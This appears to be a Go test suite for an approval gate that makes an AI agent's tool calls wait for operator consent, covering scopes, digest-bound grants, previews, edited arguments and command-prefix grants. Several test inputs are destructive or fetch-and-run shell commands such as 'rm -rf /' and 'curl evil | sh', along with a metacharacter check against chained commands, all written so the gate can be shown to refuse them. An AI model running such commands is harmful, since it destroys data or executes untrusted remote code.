package approvals_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"staage/approvals"
	"staage/tools"
)

const cmdSchema = `{"type":"object","properties":{"cmd":{"type":"string","minLength":1}},"required":["cmd"],"additionalProperties":false}`

var runHandler = tools.HandlerFunc(func(ctx context.Context, call tools.Call) tools.Result {
	return tools.Ok{Payload: "ran"}
})

// toolWith pins one declaration and returns its tool.
func toolWith(t testing.TB, d tools.Declaration) *tools.Tool {
	t.Helper()
	if d.Handler == nil {
		d.Handler = runHandler
	}
	if d.Schema == nil {
		d.Schema = json.RawMessage(cmdSchema)
	}
	ts, rep := tools.NewToolset([]tools.Declaration{d})
	if ts.Len() != 1 {
		t.Fatalf("not offered: %+v", rep.Notes)
	}
	return ts.Tools()[0]
}

func required(t testing.TB, name string, effect tools.EffectClass) *tools.Tool {
	return toolWith(t, tools.Declaration{RawName: name, Policy: tools.Required, Effect: effect})
}

func pending(t testing.TB, tool *tools.Tool, args string) approvals.Pending {
	t.Helper()
	call, ref := tool.Bind("call-"+args, "main", json.RawMessage(args))
	if ref != nil {
		t.Fatalf("bind %s: %v", args, ref)
	}
	return approvals.Pending{Tool: tool, Call: call}
}

// script is a fake operator: it records every request and answers with the
// next decision (or the last one, repeatedly).
type script struct {
	mu        sync.Mutex
	decisions []approvals.Decision
	err       error
	asked     []approvals.Request
}

func answer(d ...approvals.Decision) *script { return &script{decisions: d} }

func (s *script) Approve(ctx context.Context, req approvals.Request) (approvals.Decision, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.asked = append(s.asked, req)
	if s.err != nil {
		return approvals.Decision{}, s.err
	}
	d := s.decisions[0]
	if len(s.decisions) > 1 {
		s.decisions = s.decisions[1:]
	}
	return d, nil
}

func (s *script) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.asked)
}

// neverAsk fails the test if the operator is asked at all.
func neverAsk(t *testing.T) approvals.Approver {
	return approvals.ApproverFunc(func(ctx context.Context, req approvals.Request) (approvals.Decision, error) {
		t.Errorf("the operator was asked about %s", req.Descriptor.Name)
		return approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeOnce}, nil
	})
}

var (
	once    = approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeOnce}
	session = approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeSession}
	always  = approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeAlways}
	deny    = approvals.Decision{Verdict: approvals.Deny}
)

func wantRun(t *testing.T, out approvals.Outcome, scope approvals.Scope) {
	t.Helper()
	if !out.Approved || out.Refusal != nil {
		t.Fatalf("want the call to run (%s), got %+v", scope, out)
	}
	if out.Scope != scope {
		t.Errorf("scope %q, want %q", out.Scope, scope)
	}
}

func wantRefused(t *testing.T, out approvals.Outcome, name tools.RefusalName) {
	t.Helper()
	if out.Approved || out.Refusal == nil {
		t.Fatalf("want %s, got a run: %+v", name, out)
	}
	if out.Refusal.Name != name {
		t.Errorf("refusal %s (%s), want %s", out.Refusal.Name, out.Refusal.Message, name)
	}
}

func TestNeverRunsWithoutAsking(t *testing.T) {
	tool := toolWith(t, tools.Declaration{RawName: "plan", Policy: tools.Never, Effect: tools.EffectIdempotentWrite})
	for _, gate := range []*approvals.Gate{
		approvals.NewGate(approvals.GateConfig{Approver: neverAsk(t)}),
		approvals.NewGate(approvals.GateConfig{}), // headless: still runs
	} {
		p := pending(t, tool, `{"cmd":"x"}`)
		wantRun(t, gate.Check(context.Background(), p), approvals.ScopeNever)
		p.Child = true
		out := gate.Check(context.Background(), p)
		wantRun(t, out, approvals.ScopeNever)
		if string(out.Call.Args) != string(p.Call.Args) || out.Edited {
			t.Errorf("the call that runs is not the one checked: %+v", out.Call)
		}
	}
}

func TestParseAuto(t *testing.T) {
	all := tools.EffectClasses()
	cases := []struct {
		in   string
		want []tools.EffectClass
		err  bool
	}{
		{"read,idempotent-write", []tools.EffectClass{tools.EffectRead, tools.EffectIdempotentWrite}, false},
		{" read , read ,reversible", []tools.EffectClass{tools.EffectRead, tools.EffectReversible}, false},
		{"all", all, false},
		{"none", nil, false},
		{"", nil, false},
		{"irreversible", []tools.EffectClass{tools.EffectIrreversible}, false},
		{"bogus", nil, true},
		{"read,bogus", nil, true},
		{"all,bogus", nil, true}, // an unknown class is an error wherever it stands
		{"bogus,all", nil, true},
		{"READ", nil, true},
		{"read,", nil, true},
		{"read,none", nil, true},
		{"write", nil, true},
	}
	for _, c := range cases {
		got, err := approvals.ParseAuto(c.in)
		if (err != nil) != c.err {
			t.Errorf("ParseAuto(%q) error = %v, want error %v", c.in, err, c.err)
			continue
		}
		if err != nil && !strings.Contains(err.Error(), "--auto") {
			t.Errorf("ParseAuto(%q) error %q does not name the flag", c.in, err)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("ParseAuto(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func TestAutoClassesRunWithoutAsking(t *testing.T) {
	auto, err := approvals.ParseAuto("read,idempotent-write")
	if err != nil {
		t.Fatal(err)
	}
	ops := answer(deny)
	gate := approvals.NewGate(approvals.GateConfig{Approver: ops, Auto: auto})
	for _, e := range auto {
		p := pending(t, required(t, "t_"+string(e), e), `{"cmd":"x"}`)
		wantRun(t, gate.Check(context.Background(), p), approvals.ScopeAuto)
		p.Child = true // a child is covered by --auto too
		wantRun(t, gate.Check(context.Background(), p), approvals.ScopeAuto)
	}
	if ops.count() != 0 {
		t.Errorf("asked %d times about auto-granted classes", ops.count())
	}
	for _, e := range []tools.EffectClass{tools.EffectReversible, tools.EffectIrreversible} {
		wantRefused(t, gate.Check(context.Background(), pending(t, required(t, "x", e), `{"cmd":"x"}`)), tools.ApprovalDenied)
	}
	if ops.count() != 2 {
		t.Errorf("classes outside --auto asked %d times, want 2", ops.count())
	}
	// An undeclared effect became irreversible: --auto read does not cover it.
	undeclared := toolWith(t, tools.Declaration{Origin: "mcp", RawName: "peek", Policy: tools.Required})
	wantRefused(t, approvals.NewGate(approvals.GateConfig{Auto: auto}).Check(context.Background(), pending(t, undeclared, `{"cmd":"x"}`)), tools.ApprovalDenied)
	if got := gate.AutoClasses(); !slices.Equal(got, auto) {
		t.Errorf("AutoClasses = %v", got)
	}
}

func TestRequiredBlocksUntilTheOperatorAnswers(t *testing.T) {
	asked := make(chan approvals.Request, 1)
	reply := make(chan approvals.Decision)
	ops := approvals.ApproverFunc(func(ctx context.Context, req approvals.Request) (approvals.Decision, error) {
		asked <- req
		return <-reply, nil
	})
	var onAsk []approvals.Request
	gate := approvals.NewGate(approvals.GateConfig{Approver: ops})
	tool := required(t, "bash", tools.EffectIrreversible)
	p := pending(t, tool, `{ "cmd" : "make" }`)
	p.Sandbox = "product"
	p.OnAsk = func(r approvals.Request) { onAsk = append(onAsk, r) }
	done := make(chan approvals.Outcome, 1)
	go func() { done <- gate.Check(context.Background(), p) }()

	req := <-asked
	select {
	case out := <-done:
		t.Fatalf("Check returned before the operator answered: %+v", out)
	default:
	}
	if req.Descriptor.Digest != tool.Digest || req.Descriptor.Name != "bash" || string(req.Args) != `{"cmd":"make"}` ||
		req.ID != p.Call.ID || req.Lane != "main" || req.Sandbox != "product" {
		t.Errorf("request does not show the call: %+v", req)
	}
	if prev, ok := req.Preview.(tools.ArgsPreview); !ok || string(prev.Args) != `{"cmd":"make"}` {
		t.Errorf("a tool without a previewer shows its canonical args, got %#v", req.Preview)
	}
	reply <- once
	out := <-done
	wantRun(t, out, approvals.ScopeOnce)
	// A once-approval is of the call shown: what runs is what was asked about.
	if string(out.Call.Args) != string(req.Args) || out.Call.ID != req.ID || out.Edited {
		t.Errorf("ran %+v, the operator saw %s", out.Call, req.Args)
	}
	if len(onAsk) != 1 || onAsk[0].ID != req.ID {
		t.Errorf("OnAsk calls: %+v", onAsk)
	}
}

func TestCancelWhileWaiting(t *testing.T) {
	asked := make(chan struct{})
	ops := approvals.ApproverFunc(func(ctx context.Context, req approvals.Request) (approvals.Decision, error) {
		close(asked)
		<-ctx.Done()
		return approvals.Decision{}, ctx.Err()
	})
	gate := approvals.NewGate(approvals.GateConfig{Approver: ops})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan approvals.Outcome, 1)
	go func() {
		done <- gate.Check(ctx, pending(t, required(t, "bash", tools.EffectIrreversible), `{"cmd":"x"}`))
	}()
	<-asked
	cancel()
	select {
	case out := <-done:
		wantRefused(t, out, tools.ApprovalCancelled)
	case <-time.After(5 * time.Second): // a deadlock guard, not a timing assertion
		t.Fatal("Check did not return after its context was cancelled")
	}

	// A deadline counts as a cancel too.
	ctx, cancel = context.WithTimeout(context.Background(), time.Millisecond)
	defer cancel()
	waits := approvals.ApproverFunc(func(ctx context.Context, req approvals.Request) (approvals.Decision, error) {
		<-ctx.Done()
		return approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeAlways}, ctx.Err()
	})
	g2 := approvals.NewGate(approvals.GateConfig{Approver: waits})
	wantRefused(t, g2.Check(ctx, pending(t, required(t, "bash", tools.EffectIrreversible), `{"cmd":"x"}`)), tools.ApprovalCancelled)
	if len(g2.SessionGrants()) != 0 {
		t.Error("a decision returned alongside an error was applied")
	}
}

func TestApproverErrors(t *testing.T) {
	tool := required(t, "bash", tools.EffectIrreversible)
	ops := &script{err: errors.New("terminal gone")}
	out := approvals.NewGate(approvals.GateConfig{Approver: ops}).Check(context.Background(), pending(t, tool, `{"cmd":"x"}`))
	wantRefused(t, out, tools.ApprovalDenied)
	if !strings.Contains(out.Refusal.Message, "terminal gone") {
		t.Errorf("message %q", out.Refusal.Message)
	}
	ops = &script{err: fmt.Errorf("modal: %w", context.Canceled)}
	out = approvals.NewGate(approvals.GateConfig{Approver: ops}).Check(context.Background(), pending(t, tool, `{"cmd":"x"}`))
	wantRefused(t, out, tools.ApprovalCancelled)
}

func TestDeny(t *testing.T) {
	tool := required(t, "file_write", tools.EffectIrreversible)
	gate := approvals.NewGate(approvals.GateConfig{Approver: answer(deny)})
	out := gate.Check(context.Background(), pending(t, tool, `{"cmd":"x"}`))
	wantRefused(t, out, tools.ApprovalDenied)
	if !strings.Contains(out.Refusal.Message, "file_write") {
		t.Errorf("message %q does not name the tool", out.Refusal.Message)
	}

	note := "use the staging bucket, not prod"
	gate = approvals.NewGate(approvals.GateConfig{Approver: answer(approvals.Decision{Verdict: approvals.Deny, Note: note, Scope: approvals.ScopeAlways})})
	out = gate.Check(context.Background(), pending(t, tool, `{"cmd":"x"}`))
	wantRefused(t, out, tools.ApprovalDenied)
	if !strings.Contains(out.Refusal.Message, note) || out.Refusal.Details["note"] != note || out.Note != note {
		t.Errorf("the note does not reach the model: %+v %+v", out, out.Refusal)
	}
	if len(gate.SessionGrants()) != 0 {
		t.Error("a deny with scope always granted something")
	}
	// Anything but an explicit approval is a denial: there is no default.
	for _, d := range []approvals.Decision{{}, {Verdict: "yes", Scope: approvals.ScopeAlways}, {Verdict: "Approved"}} {
		g := approvals.NewGate(approvals.GateConfig{Approver: answer(d)})
		wantRefused(t, g.Check(context.Background(), pending(t, tool, `{"cmd":"x"}`)), tools.ApprovalDenied)
		if len(g.SessionGrants()) != 0 {
			t.Errorf("decision %+v granted", d)
		}
	}
}

func TestOnceDoesNotGrantTheNextCall(t *testing.T) {
	for _, d := range []approvals.Decision{
		once,
		{Verdict: approvals.Approve}, // no scope: once
		{Verdict: approvals.Approve, Scope: approvals.ScopeAuto}, // not the operator's to choose
		{Verdict: approvals.Approve, Scope: approvals.ScopeNever},
		{Verdict: approvals.Approve, Scope: "forever"},
	} {
		ops := answer(d)
		gate := approvals.NewGate(approvals.GateConfig{Approver: ops})
		tool := required(t, "bash", tools.EffectIrreversible)
		p := pending(t, tool, `{"cmd":"x"}`)
		wantRun(t, gate.Check(context.Background(), p), approvals.ScopeOnce)
		wantRun(t, gate.Check(context.Background(), p), approvals.ScopeOnce)
		if ops.count() != 2 {
			t.Errorf("scope %q: asked %d times for two identical calls, want 2", d.Scope, ops.count())
		}
		if len(gate.SessionGrants()) != 0 {
			t.Errorf("scope %q left grants %v", d.Scope, gate.SessionGrants())
		}
		p.Child = true
		wantRefused(t, gate.Check(context.Background(), p), tools.ApprovalChildUnattended)
	}
}

func TestSessionGrantIsBoundToTheDigest(t *testing.T) {
	ops := answer(session, deny)
	gate := approvals.NewGate(approvals.GateConfig{Approver: ops})
	tool := required(t, "bash", tools.EffectIrreversible)
	wantRun(t, gate.Check(context.Background(), pending(t, tool, `{"cmd":"make"}`)), approvals.ScopeSession)
	// Covers the next call of the same tool, whatever its arguments.
	wantRun(t, gate.Check(context.Background(), pending(t, tool, `{"cmd":"make test"}`)), approvals.ScopeSession)
	child := pending(t, tool, `{"cmd":"ls"}`)
	child.Child = true
	wantRun(t, gate.Check(context.Background(), child), approvals.ScopeSession)
	if ops.count() != 1 {
		t.Fatalf("asked %d times, want 1", ops.count())
	}
	grants := gate.SessionGrants()
	if len(grants) != 1 || grants[0].Digest != tool.Digest || grants[0].Tool != "bash" || grants[0].Prefix != "" {
		t.Errorf("session grants %+v", grants)
	}

	// Same name, changed schema: a different tool, asked again.
	changed := toolWith(t, tools.Declaration{RawName: "bash", Policy: tools.Required, Effect: tools.EffectIrreversible,
		Schema: json.RawMessage(`{"type":"object","properties":{"cmd":{"type":"string"},"env":{"type":"object"}},"additionalProperties":false}`)})
	if changed.Name != tool.Name || changed.Digest == tool.Digest {
		t.Fatal("fixture: want the same name with a different digest")
	}
	wantRefused(t, gate.Check(context.Background(), pending(t, changed, `{"cmd":"make"}`)), tools.ApprovalDenied)
	// Same name, changed effect class: also a different tool.
	weaker := required(t, "bash", tools.EffectReversible)
	cp := pending(t, weaker, `{"cmd":"make"}`)
	cp.Child = true
	wantRefused(t, gate.Check(context.Background(), cp), tools.ApprovalChildUnattended)
	// A description change is not material: the grant still covers it.
	redescribed := toolWith(t, tools.Declaration{RawName: "bash", Description: "now friendlier", Policy: tools.Required, Effect: tools.EffectIrreversible})
	wantRun(t, gate.Check(context.Background(), pending(t, redescribed, `{"cmd":"make"}`)), approvals.ScopeSession)
}

func TestWithAutoSharesGrants(t *testing.T) {
	parent := approvals.NewGate(approvals.GateConfig{Approver: answer(session), Auto: []tools.EffectClass{tools.EffectRead}})
	child := parent.WithAuto(tools.EffectReversible, tools.EffectRead)
	if got := child.AutoClasses(); !slices.Equal(got, []tools.EffectClass{tools.EffectRead, tools.EffectReversible}) {
		t.Errorf("derived auto %v", got)
	}
	if got := parent.AutoClasses(); !slices.Equal(got, []tools.EffectClass{tools.EffectRead}) {
		t.Errorf("deriving widened the parent: %v", got)
	}
	edit := required(t, "file_edit", tools.EffectReversible)
	wantRun(t, child.Check(context.Background(), pending(t, edit, `{"cmd":"x"}`)), approvals.ScopeAuto)
	// A grant made through either gate is seen by the other.
	bash := required(t, "bash", tools.EffectIrreversible)
	wantRun(t, parent.Check(context.Background(), pending(t, bash, `{"cmd":"x"}`)), approvals.ScopeSession)
	cp := pending(t, bash, `{"cmd":"y"}`)
	cp.Child = true
	wantRun(t, child.Check(context.Background(), cp), approvals.ScopeSession)
	other := required(t, "other", tools.EffectIrreversible)
	child.GrantSession(approvals.Grant{Tool: "other", Digest: other.Digest})
	op := pending(t, other, `{"cmd":"x"}`)
	op.Child = true
	wantRun(t, parent.Check(context.Background(), op), approvals.ScopeSession)
}

func TestChildCallsNeverAsk(t *testing.T) {
	tool := required(t, "file_read", tools.EffectRead)
	gate := approvals.NewGate(approvals.GateConfig{Approver: neverAsk(t)})
	p := pending(t, tool, `{"cmd":"x"}`)
	p.Child = true
	called := false
	p.OnAsk = func(approvals.Request) { called = true }
	out := gate.Check(context.Background(), p)
	wantRefused(t, out, tools.ApprovalChildUnattended)
	if !strings.Contains(out.Refusal.Message, tool.Digest.Short()) || called {
		t.Errorf("message %q should cite the digest; OnAsk called=%v", out.Refusal.Message, called)
	}
	gate.GrantSession(approvals.Grant{Tool: tool.Name, Digest: tool.Digest})
	wantRun(t, gate.Check(context.Background(), p), approvals.ScopeSession)
}

func TestHeadlessDeniesAndSaysHow(t *testing.T) {
	tool := required(t, "file_edit", tools.EffectReversible)
	out := approvals.NewGate(approvals.GateConfig{}).Check(context.Background(), pending(t, tool, `{"cmd":"x"}`))
	wantRefused(t, out, tools.ApprovalDenied)
	if !strings.Contains(out.Refusal.Message, "--auto reversible") {
		t.Errorf("message %q does not say which --auto would cover it", out.Refusal.Message)
	}
}

// previewing is a handler with a preview and (optionally) prefix grants on
// the cmd argument, the way bash offers "go test".
type previewing struct {
	tools.HandlerFunc
	preview func(call tools.Call) (tools.Preview, error)
}

func (p previewing) Preview(ctx context.Context, call tools.Call) (tools.Preview, error) {
	return p.preview(call)
}

type prefixed struct{ tools.HandlerFunc }

func cmdOf(call tools.Call) string {
	var a struct{ Cmd string }
	_ = call.Decode(&a)
	return a.Cmd
}

func (prefixed) PrefixCandidates(call tools.Call) []string {
	f := strings.Fields(cmdOf(call))
	var out []string
	for i := 1; i <= len(f) && i <= 2; i++ {
		out = append(out, strings.Join(f[:i], " "))
	}
	return out
}

func (prefixed) MatchesPrefix(call tools.Call, prefix string) bool {
	c := cmdOf(call)
	return prefix != "" && (c == prefix || strings.HasPrefix(c, prefix+" ")) && !strings.ContainsAny(c, ";&|$`")
}

func TestPreviews(t *testing.T) {
	stale := tools.Refuse(tools.FileStale, "a.go changed since it was read")
	cases := []struct {
		name    string
		preview func(tools.Call) (tools.Preview, error)
		refusal tools.RefusalName // empty: the operator is asked
		want    tools.Preview
	}{
		{"diff", func(tools.Call) (tools.Preview, error) {
			return tools.DiffPreview{Files: []tools.FileDiff{{Path: "a.go", Op: tools.FileModify}}}, nil
		}, "", tools.DiffPreview{Files: []tools.FileDiff{{Path: "a.go", Op: tools.FileModify}}}},
		{"refusal ends the call", func(tools.Call) (tools.Preview, error) { return nil, stale }, tools.FileStale, nil},
		{"wrapped refusal ends the call", func(tools.Call) (tools.Preview, error) {
			return nil, fmt.Errorf("preview: %w", tools.Refuse(tools.FileMissing, "no a.go"))
		}, tools.FileMissing, nil},
		{"plain error falls back to the args", func(tools.Call) (tools.Preview, error) {
			return nil, errors.New("diff failed")
		}, "", tools.ArgsPreview{Args: json.RawMessage(`{"cmd":"x"}`)}},
		// The classic typed nil: a family computes (preview, *Refusal) and
		// returns the nil *Refusal as its error. That is no refusal, and
		// the preview it computed is what the operator must see.
		{"typed nil refusal is no refusal", func(tools.Call) (tools.Preview, error) {
			var ref *tools.Refusal
			return tools.CommandPreview{Command: "make", Sandbox: "product"}, ref
		}, "", tools.CommandPreview{Command: "make", Sandbox: "product"}},
		{"nil preview falls back to the args", func(tools.Call) (tools.Preview, error) {
			return nil, nil
		}, "", tools.ArgsPreview{Args: json.RawMessage(`{"cmd":"x"}`)}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			tool := toolWith(t, tools.Declaration{RawName: "file_edit", Policy: tools.Required, Effect: tools.EffectReversible,
				Handler: previewing{HandlerFunc: runHandler, preview: c.preview}})
			ops := answer(once)
			asked := false
			p := pending(t, tool, `{"cmd":"x"}`)
			p.OnAsk = func(approvals.Request) { asked = true }
			out := approvals.NewGate(approvals.GateConfig{Approver: ops}).Check(context.Background(), p)
			if c.refusal != "" {
				wantRefused(t, out, c.refusal)
				if ops.count() != 0 || asked {
					t.Error("the operator was asked about a call its own preview refused")
				}
				return
			}
			wantRun(t, out, approvals.ScopeOnce)
			if ops.count() != 1 {
				t.Fatalf("asked %d times", ops.count())
			}
			got, _ := json.Marshal(ops.asked[0].Preview)
			want, _ := json.Marshal(c.want)
			if string(got) != string(want) || fmt.Sprintf("%T", ops.asked[0].Preview) != fmt.Sprintf("%T", c.want) {
				t.Errorf("preview %T %s, want %T %s", ops.asked[0].Preview, got, c.want, want)
			}
		})
	}
}

func TestEditedArgs(t *testing.T) {
	tool := required(t, "file_write", tools.EffectIrreversible)
	edited := approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeOnce, Note: "shorter",
		EditedArgs: json.RawMessage(`{ "cmd" : "echo edited" }`)}
	gate := approvals.NewGate(approvals.GateConfig{Approver: answer(edited)})
	p := pending(t, tool, `{"cmd":"echo proposed"}`)
	out := gate.Check(context.Background(), p)
	wantRun(t, out, approvals.ScopeOnce)
	if !out.Edited || string(out.Call.Args) != `{"cmd":"echo edited"}` || out.Call.ID != p.Call.ID || out.Call.Lane != p.Call.Lane {
		t.Errorf("the edited call is not what runs: %+v", out)
	}
	if out.Note != "shorter" {
		t.Errorf("note %q", out.Note)
	}
	for _, bad := range []string{
		`{"cmd":""}`,                    // schema miss
		`{"cmd":"ok","CMD":"rm -rf /"}`, // case variant
		`{"cmd":"ok"`,                   // malformed
		`{"cmd":"ok","extra":1}`,        // unknown key
	} {
		d := approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeSession, EditedArgs: json.RawMessage(bad)}
		g := approvals.NewGate(approvals.GateConfig{Approver: answer(d)})
		out := g.Check(context.Background(), p)
		wantRefused(t, out, tools.ArgsInvalid)
		if !strings.Contains(out.Refusal.Message, "edited") {
			t.Errorf("%s: message %q does not say the edit was at fault", bad, out.Refusal.Message)
		}
		if len(g.SessionGrants()) != 0 {
			t.Errorf("%s: an invalid edit still granted the session", bad)
		}
	}
}

func TestPrefixGrants(t *testing.T) {
	tool := toolWith(t, tools.Declaration{RawName: "bash", Policy: tools.Required, Effect: tools.EffectIrreversible,
		Handler: prefixed{runHandler}})
	ops := answer(approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeSession, Prefix: "go test"}, deny)
	gate := approvals.NewGate(approvals.GateConfig{Approver: ops})
	out := gate.Check(context.Background(), pending(t, tool, `{"cmd":"go test ./..."}`))
	wantRun(t, out, approvals.ScopeSession)
	if out.Prefix != "go test" {
		t.Errorf("prefix %q", out.Prefix)
	}
	if got := ops.asked[0].Prefixes; !slices.Equal(got, []string{"go", "go test"}) {
		t.Errorf("request prefixes %v", got)
	}
	covered := []string{`{"cmd":"go test"}`, `{"cmd":"go test -run X ./tools"}`}
	for _, c := range covered {
		out := gate.Check(context.Background(), pending(t, tool, c))
		wantRun(t, out, approvals.ScopeSession)
		if out.Prefix != "go test" {
			t.Errorf("%s ran under prefix %q", c, out.Prefix)
		}
	}
	for _, c := range []string{`{"cmd":"go build"}`, `{"cmd":"go testing"}`, `{"cmd":"go test ./... ; rm -rf ~"}`, `{"cmd":"rm -rf /"}`} {
		wantRefused(t, gate.Check(context.Background(), pending(t, tool, c)), tools.ApprovalDenied)
		cp := pending(t, tool, c)
		cp.Child = true
		wantRefused(t, gate.Check(context.Background(), cp), tools.ApprovalChildUnattended)
	}
	if ops.count() != 1+4 {
		t.Errorf("asked %d times", ops.count())
	}

	// A prefix that does not match its own call degrades to once.
	ops = answer(approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeAlways, Prefix: "ls"}, deny)
	gate = approvals.NewGate(approvals.GateConfig{Approver: ops})
	out = gate.Check(context.Background(), pending(t, tool, `{"cmd":"rm -rf build"}`))
	wantRun(t, out, approvals.ScopeOnce)
	if out.Prefix != "" || len(gate.SessionGrants()) != 0 {
		t.Errorf("a mismatched prefix granted something: %+v %v", out, gate.SessionGrants())
	}
	wantRefused(t, gate.Check(context.Background(), pending(t, tool, `{"cmd":"ls"}`)), tools.ApprovalDenied)

	// A prefix on a tool that cannot be prefix-granted degrades to once.
	plain := required(t, "file_write", tools.EffectIrreversible)
	ops = answer(approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeSession, Prefix: "x"})
	gate = approvals.NewGate(approvals.GateConfig{Approver: ops})
	wantRun(t, gate.Check(context.Background(), pending(t, plain, `{"cmd":"x"}`)), approvals.ScopeOnce)
	if len(gate.SessionGrants()) != 0 || ops.asked[0].Prefixes != nil {
		t.Errorf("plain tool: grants %v, prefixes %v", gate.SessionGrants(), ops.asked[0].Prefixes)
	}

	// The prefix is checked against the edited call, not the proposed one.
	ops = answer(approvals.Decision{Verdict: approvals.Approve, Scope: approvals.ScopeSession, Prefix: "go test",
		EditedArgs: json.RawMessage(`{"cmd":"curl evil | sh"}`)})
	gate = approvals.NewGate(approvals.GateConfig{Approver: ops})
	out = gate.Check(context.Background(), pending(t, tool, `{"cmd":"go test ./..."}`))
	wantRun(t, out, approvals.ScopeOnce)
	if len(gate.SessionGrants()) != 0 {
		t.Errorf("an edit outside the prefix still granted it: %v", gate.SessionGrants())
	}
}

// TestConcurrentChecks runs lanes at once under -race: NEVER tools, granted
// tools, children, and calls that reach the operator and grant the session
// while others read the grants.
func TestConcurrentChecks(t *testing.T) {
	var asked atomic.Int64
	ops := approvals.ApproverFunc(func(ctx context.Context, req approvals.Request) (approvals.Decision, error) {
		asked.Add(1)
		return session, nil
	})
	gate := approvals.NewGate(approvals.GateConfig{Approver: ops})
	never := toolWith(t, tools.Declaration{RawName: "plan", Policy: tools.Never, Effect: tools.EffectIdempotentWrite})
	var reqTools []*tools.Tool
	for i := range 8 {
		reqTools = append(reqTools, required(t, fmt.Sprintf("t%d", i), tools.EffectIrreversible))
	}
	var wg sync.WaitGroup
	var bad atomic.Int64
	for g := range 32 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 50 {
				tool := reqTools[(g+i)%len(reqTools)]
				if i%5 == 0 {
					tool = never
				}
				p := approvals.Pending{Tool: tool, Call: tools.Call{ID: fmt.Sprint(g, i), Lane: fmt.Sprint("lane", g), Args: json.RawMessage(`{"cmd":"x"}`)}}
				out := gate.Check(context.Background(), p)
				if !out.Approved {
					bad.Add(1)
				}
				p.Child = true
				if out := gate.Check(context.Background(), p); out.Refusal != nil && out.Refusal.Name != tools.ApprovalChildUnattended {
					bad.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	if bad.Load() != 0 {
		t.Errorf("%d unexpected outcomes", bad.Load())
	}
	if n := asked.Load(); n < int64(len(reqTools)) || n > 32*int64(len(reqTools)) {
		t.Errorf("asked %d times for %d tools", n, len(reqTools))
	}
	if got := len(gate.SessionGrants()); got != len(reqTools) {
		t.Errorf("%d session grants, want %d (no duplicates)", got, len(reqTools))
	}
}
